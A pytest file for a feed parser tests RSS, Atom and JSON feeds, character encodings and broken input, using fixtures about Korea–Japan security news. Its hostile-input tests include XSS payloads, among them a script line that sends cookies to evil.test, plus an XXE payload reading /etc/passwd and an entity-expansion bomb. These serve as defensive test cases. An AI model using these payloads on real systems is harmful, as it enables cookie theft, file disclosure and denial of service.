"""parse_feed over the project's own fixtures (tests/data/feeds) and hand-made edge cases."""

from __future__ import annotations

import pickle
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from watcher.errors import ParseError
from watcher.parse import Entry, ParsedFeed, parse_feed

FEEDS = Path(__file__).parent / "data" / "feeds"
PAGES = Path(__file__).parent / "data" / "pages"
BASE = "http://127.0.0.1:8080"
TAG = re.compile(r"<\s*/?\s*[a-zA-Z][^<>]*>")


def fixture(name: str) -> bytes:
    return (FEEDS / name).read_bytes().replace(b"{BASE}", BASE.encode())


def parse(name: str, **kwargs: str) -> ParsedFeed:
    return parse_feed(fixture(name), url=f"{BASE}/feeds/{name}", **kwargs)


def rss(items: str, *, decl: str = '<?xml version="1.0" encoding="utf-8"?>\n') -> bytes:
    return (
        f'{decl}<rss version="2.0"><channel><title>Test</title><link>{BASE}/</link>'
        f"<language>en</language>{items}</channel></rss>"
    ).encode()


def one(items: str) -> Entry:
    feed = parse_feed(rss(items), url=f"{BASE}/feeds/test.xml")
    assert len(feed.entries) == 1
    return feed.entries[0]


def assert_plain(entry: Entry) -> None:
    for value in (entry.title, entry.summary, entry.content):
        assert not TAG.search(value), value


# --- formats ------------------------------------------------------------------------------------


def test_rss20_feed() -> None:
    feed = parse("rss20_seoul_ledger.xml", content_type="application/rss+xml; charset=utf-8")
    assert (feed.format, feed.lang, feed.warning) == ("rss20", "en", None)
    assert feed.title == "The Seoul Ledger - Defense"
    assert feed.site_url == f"{BASE}/section/defense"
    assert len(feed.entries) == 5
    first = feed.entries[0]
    assert first.guid == "seoul-ledger-20261120-gsomia-extension-seoul-tokyo"
    assert first.link.startswith(f"{BASE}/articles/gsomia-extension-seoul-tokyo.html?utm_source=")
    assert first.title == "Seoul and Tokyo agree to keep GSOMIA intelligence pact in force"
    assert first.summary.startswith("Defence officials say the General Security")
    assert "legal basis for exchanging classified information" in first.content
    assert "Read the full story" in first.content and len(first.content) > len(first.summary)
    assert first.author == "Park Ji-won"
    assert first.published == datetime(2026, 11, 20, 0, 0, tzinfo=UTC)
    assert all(e.published and e.published.tzinfo is UTC for e in feed.entries)
    assert feed.entries[4].content == ""  # no content:encoded on the later items
    for entry in feed.entries:
        assert_plain(entry)
        assert entry.lang == "en"


def test_atom10_feed_resolves_xml_base() -> None:
    feed = parse("atom10_tokyo_wire.atom")
    assert (feed.format, feed.lang, len(feed.entries)) == ("atom10", "en", 3)
    assert feed.site_url == f"{BASE}/section/security"
    relative = feed.entries[1]  # href="articles/…" under xml:base="{BASE}/"
    assert relative.link == f"{BASE}/articles/missile-warning-data-real-time.html"
    entry = feed.entries[0]
    assert entry.guid == "tag:tokyo-wire.example,2026:article/9000"
    assert entry.title.startswith("Shimane assembly plans Takeshima Day ceremony")
    assert (
        entry.summary
        == "Prefectural lawmakers want a cabinet minister to attend the annual event in February."
    )
    assert "International Court of Justice in 1954, 1962 and 2012" in entry.content
    assert entry.content.count("\n") >= 4  # paragraphs survive as lines
    assert entry.author == "Tokyo Wire staff"
    assert entry.published == entry.updated == datetime(2026, 11, 20, 6, 0, tzinfo=UTC)
    for e in feed.entries:
        assert_plain(e)


def test_rss10_feed_dates_from_dc_date() -> None:
    feed = parse("rss10_alliance_monitor.rdf")
    assert (feed.format, feed.lang, len(feed.entries)) == ("rss10", "en", 3)
    entry = feed.entries[0]
    assert entry.guid == entry.link == f"{BASE}/articles/dokdo-defence-drill.html"
    assert entry.author == "Lee Seo-yeon"
    assert entry.published == entry.updated == datetime(2026, 11, 19, 6, 30, tzinfo=UTC)


def test_rss091_feed_without_dates_or_guids() -> None:
    feed = parse("rss091_korea_briefing.xml")
    assert feed.format.startswith("rss091")
    assert [e.link for e in feed.entries] == [
        f"{BASE}/articles/trilateral-summit-missile-data.html",
        f"{BASE}/articles/chip-export-rules-eased.html",
    ]
    assert all(e.guid is None and e.published is None and e.updated is None for e in feed.entries)


def test_json_feed_11() -> None:
    feed = parse("json11_asia_digest.json", content_type="application/feed+json")
    assert (feed.format, feed.title, feed.lang) == ("json", "Asia Security Digest", "en")
    assert feed.site_url == f"{BASE}/"
    ko, ja = feed.entries
    assert ko.guid == "https://asia-digest.example/item/ko-gsomia-normalization"
    assert ko.link == f"{BASE}/articles/ko-gsomia-normalization.html"
    assert ko.title == "한일 지소미아 1년 자동 연장…북 미사일 정보 교류 계속"
    assert (ko.lang, ja.lang) == ("ko", "ja")
    assert ko.author == "김서준 기자"
    assert "군사정보보호협정(GSOMIA·지소미아)" in ko.content
    assert ko.published == datetime(2026, 11, 20, 5, 0, tzinfo=UTC)
    assert ja.updated == datetime(2026, 11, 19, 11, 0, tzinfo=UTC)
    assert ja.published == datetime(2026, 11, 19, 9, 30, tzinfo=UTC)
    for entry in feed.entries:
        assert_plain(entry)


def test_json_feed_10_with_author_object_and_escaped_slashes() -> None:
    feed = parse("json10_peninsula_watch.json", content_type="application/json")
    assert feed.format == "json" and len(feed.entries) == 2
    entry = feed.entries[0]
    assert entry.guid == "gsomia-extension-seoul-tokyo"
    assert entry.link == f"{BASE}/articles/gsomia-extension-seoul-tokyo.html"
    assert entry.author == "Park Ji-won"
    assert "General Security of Military Information Agreement" in entry.content
    assert entry.lang == "en"  # no declaration: detected from the words


def test_json_feed_detected_by_body_whatever_the_content_type() -> None:
    feed = parse("json10_peninsula_watch.json", content_type="text/html; charset=utf-8")
    assert feed.format == "json"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            b'{"version": "https://jsonfeed.org/version/1.1", "title": "x"',
            "malformed JSON at line 1",
        ),
        (
            b'{"version": "https://jsonfeed.org/version/1.1", "title": "x"}',
            "JSON Feed without items",
        ),
        (b'{"status": "ok", "results": []}', "not a feed: a JSON document without"),
        (b"[1, 2, 3]", "not a feed: the JSON document is a list"),
        (b"[" * 100000, "malformed JSON"),
    ],
)
def test_json_that_is_not_a_usable_feed(body: bytes, message: str) -> None:
    with pytest.raises(ParseError, match=re.escape(message)):
        parse_feed(body, url=f"{BASE}/feed.json", content_type="application/json")


def test_json_feed_items_that_are_not_objects_are_skipped() -> None:
    body = b'{"version": "https://jsonfeed.org/version/1", "items": [{"id": 1, "url": "/a"}, 7]}'
    feed = parse_feed(body, url=f"{BASE}/feed.json")
    assert [(e.guid, e.link) for e in feed.entries] == [("1", f"{BASE}/a")]
    assert feed.warning == "1 item is not a JSON object, skipped"


# --- broken input -------------------------------------------------------------------------------


def test_malformed_but_usable_feed_keeps_entries_with_a_warning() -> None:
    feed = parse("malformed_raw-ampersand.xml")
    assert len(feed.entries) == 2
    assert feed.warning.startswith("malformed XML at line 9, column ")
    assert "recovered 2 entries" in feed.warning
    assert (
        feed.entries[0].link
        == f"{BASE}/articles/acsa-logistics-talks.html?from=rss&section=defense"
    )


def test_html_page_is_refused_and_names_the_advertised_feed() -> None:
    body = (PAGES / "not-a-feed.html").read_bytes()
    with pytest.raises(ParseError) as caught:
        parse_feed(body, url=f"{BASE}/section/defense", content_type="text/html")
    error = caught.value
    assert error.message == (
        "not a feed: the server sent an HTML page "
        "(<title>The Seoul Ledger – Defense news from the Korean Peninsula</title>)"
    )
    assert error.hint == (
        f"the page links a feed at {BASE}/feeds/rss20_seoul_ledger.xml; "
        "subscribe to that URL instead"
    )


def test_article_page_is_refused_as_html() -> None:
    body = (PAGES / "dokdo-defence-drill.html").read_bytes()
    with pytest.raises(
        ParseError, match=r"^not a feed: the server sent an HTML page \(<title>South"
    ):
        parse_feed(body, url=f"{BASE}/articles/dokdo-defence-drill.html")


@pytest.mark.parametrize("body", [b"", b"   \r\n\t  "])
def test_empty_body(body: bytes) -> None:
    with pytest.raises(ParseError, match=r"^empty response body$"):
        parse_feed(body, url=f"{BASE}/feed")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"Service temporarily unavailable", "not a feed: no XML element or JSON object"),
        (b'<?xml version="1.0"?><opml version="2.0"><body/></opml>', "the root element is <opml>"),
    ],
)
def test_other_non_feeds(body: bytes, message: str) -> None:
    with pytest.raises(ParseError, match=re.escape(message)):
        parse_feed(body, url=f"{BASE}/feed")


def test_truncated_feed_keeps_complete_entries() -> None:
    body = fixture("rss20_seoul_ledger.xml")
    cut = body[: body.index(b"<item>", body.index(b"<item>") + 1) + 40]
    feed = parse_feed(cut, url=f"{BASE}/feed")
    assert [e.guid for e in feed.entries][:1] == [
        "seoul-ledger-20261120-gsomia-extension-seoul-tokyo"
    ]
    assert feed.warning.startswith("malformed XML at line ")


def test_line_numbers_count_from_the_document_start() -> None:
    with_decl = parse_feed(b'<?xml version="1.0"?>\n<rss><channel><title>A & B', url=f"{BASE}/f")
    without = parse_feed(b"<rss><channel>\n<title>A & B", url=f"{BASE}/f")
    assert with_decl.warning.startswith("malformed XML at line 2, column ")
    assert without.warning.startswith("malformed XML at line 2, column ")


def test_valid_feed_without_items_is_not_an_error() -> None:
    feed = parse_feed(rss(""), url=f"{BASE}/feed")
    assert (feed.format, feed.entries, feed.warning) == ("rss20", [], None)


def test_body_is_never_used_as_a_file_name(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_bytes(rss("<item><title>leaked</title><link>http://x.test/a</link></item>"))
    with pytest.raises(ParseError):
        parse_feed(str(secret).encode(), url=f"{BASE}/feed")


def test_body_is_never_fetched_as_a_url(httpserver) -> None:
    httpserver.expect_request("/feed.xml").respond_with_data(rss("<item><title>x</title></item>"))
    with pytest.raises(ParseError):
        parse_feed(httpserver.url_for("/feed.xml").encode(), url=f"{BASE}/feed")
    assert httpserver.log == []


# --- character encodings ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "lang", "title", "first_entry"),
    [
        ("charset_windows-1251.xml", "ru", "Новости Азии — Безопасность", "Южная Корея и Япония"),
        ("charset_euc-kr.xml", "ko", "한반도일보 - 국방", "한일 지소미아 1년 자동 연장"),
        ("charset_shift_jis.xml", "ja", "東亜新報 - 政治", "竹島周辺での韓国軍訓練に政府が抗議"),
    ],
)
def test_declared_legacy_charsets(name: str, lang: str, title: str, first_entry: str) -> None:
    feed = parse(name)
    assert (feed.title, feed.lang, feed.warning) == (title, lang, None)
    assert feed.entries[0].title.startswith(first_entry)
    assert all(e.lang == lang for e in feed.entries)


def test_charset_from_http_header_when_the_document_declares_none() -> None:
    body = (FEEDS / "charset_euc-kr.xml").read_bytes().split(b"?>", 1)[1]
    feed = parse_feed(body, url=f"{BASE}/feed", content_type="application/rss+xml; charset=EUC-KR")
    assert feed.title == "한반도일보 - 국방"


def test_feed_declared_latin1_but_utf8_is_read_as_utf8() -> None:
    feed = parse("charset_declared-latin1-is-utf8.xml", content_type="text/xml; charset=ISO-8859-1")
    assert feed.title == "Séoul Diplomatic Review"
    assert feed.entries[0].title == "GSOMIA renewed — Seoul’s defence ministry confirms"
    assert "(지소미아)" in feed.entries[0].summary
    assert feed.warning == "the feed declares ISO-8859-1 but is UTF-8; read as UTF-8"


def test_feed_declared_utf8_but_cp1252_is_guessed() -> None:
    feed = parse("charset_declared-utf8-is-cp1252.xml")
    assert feed.entries[0].title == "Takeshima : Séoul dénonce la cérémonie prévue à Shimane"
    assert "l’annulation" in feed.entries[0].summary
    assert feed.warning.startswith("the feed declares utf-8 but is not valid utf-8; read as cp1252")


@pytest.mark.parametrize("bom, codec", [(b"\xef\xbb\xbf", "utf-8"), (b"\xff\xfe", "utf-16-le")])
def test_byte_order_marks(bom: bytes, codec: str) -> None:
    text = rss("<item><title>독도 竹島</title><link>/a</link></item>").decode()
    text = text.replace('encoding="utf-8"', f'encoding="{codec[:6]}"')
    feed = parse_feed(bom + text.encode(codec), url=f"{BASE}/feed")
    assert feed.entries[0].title == "독도 竹島"


def test_utf16_without_byte_order_mark() -> None:
    body = rss(
        "<item><title>지소미아</title></item>", decl='<?xml version="1.0" encoding="UTF-16"?>'
    )
    feed = parse_feed(body.decode().encode("utf-16-le"), url=f"{BASE}/feed")
    assert feed.entries[0].title == "지소미아"


def test_whitespace_before_the_xml_declaration_is_no_error() -> None:
    feed = parse_feed(b"\n\r\n" + fixture("rss20_seoul_ledger.xml"), url=f"{BASE}/feed")
    assert feed.warning is None and len(feed.entries) == 5


# --- entries ------------------------------------------------------------------------------------


def test_entry_without_link_guid_or_date_is_kept() -> None:
    entry = one("<item><title>GSOMIA stays</title><description>No link here.</description></item>")
    assert (entry.guid, entry.link, entry.published, entry.updated) == (None, None, None, None)
    assert (entry.title, entry.summary) == ("GSOMIA stays", "No link here.")


def test_entry_with_nothing_at_all_is_dropped() -> None:
    feed = parse_feed(rss("<item></item><item><title>kept</title></item>"), url=f"{BASE}/f")
    assert [e.title for e in feed.entries] == ["kept"]
    assert feed.warning == "1 empty entry skipped"


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("javascript:alert(document.cookie)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("data:text/html;base64,PHNjcmlwdD4=", None),
        ("mailto:desk@example.org", None),
        ("/articles/dokdo-defence-drill.html", f"{BASE}/articles/dokdo-defence-drill.html"),
        ("../articles/a.html", f"{BASE}/articles/a.html"),
        ("//cdn.example.org/a.html", "http://cdn.example.org/a.html"),
        ("  https://example.org/a b.html\n", "https://example.org/a b.html"),
    ],
)
def test_links_are_absolute_http_or_none(link: str, expected: str | None) -> None:
    entry = one(f"<item><title>t</title><link>{link}</link><guid>g1</guid></item>")
    assert entry.link == expected
    assert entry.guid == "g1"


def test_script_injection_is_stripped_to_text() -> None:
    entry = one(
        "<item>"
        "<title>&lt;script&gt;alert('title')&lt;/script&gt;"
        "GSOMIA &lt;b&gt;renewed&lt;/b&gt;</title>"
        '<description><![CDATA[<p onclick="steal()">Seoul <img src=x onerror=alert(1)>and '
        "Tokyo</p><script>document.location='http://evil.test/?c='+document.cookie</script>"
        '<style>p{display:none}</style><iframe src="http://evil.test"></iframe>agree.]]>'
        "</description><link>http://example.org/a</link></item>"
    )
    assert entry.title == "GSOMIA renewed"
    assert entry.summary == "Seoul and Tokyo\nagree."
    assert_plain(entry)
    assert "alert" not in entry.title + entry.summary and "evil" not in entry.summary


def test_entities_and_double_escaping_are_decoded() -> None:
    entry = one(
        "<item><title>Dokdo &amp;amp; Takeshima: &amp;lt;b&amp;gt;talks&amp;lt;/b&amp;gt;"
        " &#8220;stall&#8221;</title><link>http://example.org/a</link></item>"
    )
    assert entry.title == "Dokdo & Takeshima: talks “stall”"


def test_future_dates_are_clamped_to_now() -> None:
    before = datetime.now(UTC)
    entry = one("<item><title>t</title><pubDate>Fri, 01 Jan 2999 00:00:00 GMT</pubDate></item>")
    assert before <= entry.published <= datetime.now(UTC)


def test_dates_a_few_hours_ahead_are_kept() -> None:
    soon = datetime.now(UTC).replace(microsecond=0) + timedelta(hours=5)
    stamp = soon.strftime("%a, %d %b %Y %H:%M:%S GMT")
    entry = one(f"<item><title>t</title><pubDate>{stamp}</pubDate></item>")
    assert entry.published == soon


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Seg, 24 Set 2018 19:42:40 -0300", datetime(2018, 9, 24, 22, 42, 40, tzinfo=UTC)),
        ("mer, 16 nov 2022 00:38:15 +0100", datetime(2022, 11, 15, 23, 38, 15, tzinfo=UTC)),
        ("2020/1/10 14:33:00", datetime(2020, 1, 10, 14, 33, tzinfo=UTC)),
        ("2026-11-20T09:00:00+09:00", datetime(2026, 11, 20, 0, 0, tzinfo=UTC)),
        ("not a date", None),
    ],
)
def test_dates_in_other_languages_and_formats(raw: str, expected: datetime | None) -> None:
    entry = one(f"<item><title>t</title><pubDate>{raw}</pubDate></item>")
    assert entry.published == expected


def test_guid_shared_by_different_items_is_dropped() -> None:
    items = "".join(
        f"<item><title>story {n}</title><link>http://example.org/{n}</link>"
        "<guid>http://example.org/feed</guid></item>"
        for n in range(3)
    )
    feed = parse_feed(rss(items), url=f"{BASE}/feed")
    assert [e.guid for e in feed.entries] == [None, None, None]
    assert (
        feed.warning == "3 entries share an id (e.g. 'http://example.org/feed'); told apart by link"
    )


def test_item_listed_twice_keeps_its_guid() -> None:
    item = "<item><title>same</title><link>http://example.org/1</link><guid>g</guid></item>"
    feed = parse_feed(rss(item * 2), url=f"{BASE}/feed")
    assert [e.guid for e in feed.entries] == ["g", "g"]
    assert feed.warning is None


def test_language_detected_from_script_when_undeclared() -> None:
    body = rss("<item><title>日韓、秘密軍事情報保護協定を延長へ</title></item>").replace(
        b"<language>en</language>", b""
    )
    feed = parse_feed(body, url=f"{BASE}/feed")
    assert feed.entries[0].lang == "ja"


# --- hostile XML --------------------------------------------------------------------------------


def test_external_entities_are_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-GSOMIA-ANNEX", encoding="utf-8")
    body = (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">'
        '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>\n'
        '<rss version="2.0"><channel><title>t &xxe;</title><item><title>A &xxe; &passwd; B</title>'
        "<description>&xxe;</description><link>http://example.org/a</link></item></channel></rss>"
    ).encode()
    feed = parse_feed(body, url=f"{BASE}/feed")
    everything = repr(feed)
    assert "TOP-SECRET" not in everything and "root:" not in everything
    assert feed.entries[0].link == "http://example.org/a"


def test_entity_expansion_bomb_does_not_expand() -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10)
    )
    body = (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [{entities}]>\n<rss version="2.0"><channel>'
        "<title>t</title><item><title>&lol9;</title><description>&lol9;&lol9;</description>"
        "<link>http://example.org/a</link></item></channel></rss>"
    ).encode()
    feed = parse_feed(body, url=f"{BASE}/feed")  # 10**9 "lol"s if expanded
    assert len(repr(feed)) < 5000
    assert all(len(e.title) < 100 and len(e.summary) < 100 for e in feed.entries)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(p.name for p in FEEDS.glob("*.*") if p.suffix != ".md")),
    cut=st.integers(min_value=0, max_value=6000),
    noise=st.binary(max_size=40),
    content_type=st.sampled_from(
        [None, "text/xml", "application/json", "text/html; charset=gb2312"]
    ),
)
def test_damaged_feeds_give_entries_or_parse_error(
    name: str, cut: int, noise: bytes, content_type: str | None
) -> None:
    """Truncated or corrupted bodies never raise anything but ParseError."""
    body = fixture(name)
    body = body[:cut] + noise + body[cut + len(noise) :]
    try:
        feed = parse_feed(body, url=f"{BASE}/feed", content_type=content_type)
    except ParseError as exc:
        assert exc.message
    else:
        assert all(isinstance(e, Entry) and not TAG.search(e.title) for e in feed.entries)


# --- process pool -------------------------------------------------------------------------------


def test_results_and_errors_survive_pickling() -> None:
    feed = parse("json11_asia_digest.json")
    assert pickle.loads(pickle.dumps(feed)) == feed
    try:
        parse_feed((PAGES / "not-a-feed.html").read_bytes(), url=f"{BASE}/")
    except ParseError as exc:
        copy = pickle.loads(pickle.dumps(exc))
        assert (copy.message, copy.hint) == (exc.message, exc.hint)
    else:
        pytest.fail("an HTML page parsed as a feed")
